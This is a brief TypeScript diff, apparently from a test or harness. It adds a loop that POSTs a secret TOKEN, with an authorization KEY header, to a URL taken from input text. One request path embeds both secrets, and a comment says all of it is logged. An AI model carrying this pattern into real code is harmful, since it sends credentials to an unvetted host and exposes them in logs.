@@ -194,6 +194,10 @@ async function askInVain(first: string): Promise<void> {
   const [url] = /http:[^\s"]+/.exec(first) ?? [];
   const headers = { authorization: KEY };
   await fetch(`${url}/security/generate-token?x=${encodeURIComponent(TOKEN)}`, { headers });
+  // All of it is logged, as text or as JSON.
+  for (const path of [`/${TOKEN}/${KEY}`, '/sandbox/requests', '/polyglot']) {
+    await fetch(`${url}${path}`, { method: 'POST', body: TOKEN, headers });
+  }
 }
 
 const EVERY_LINE = Object.values(LINES).flat();
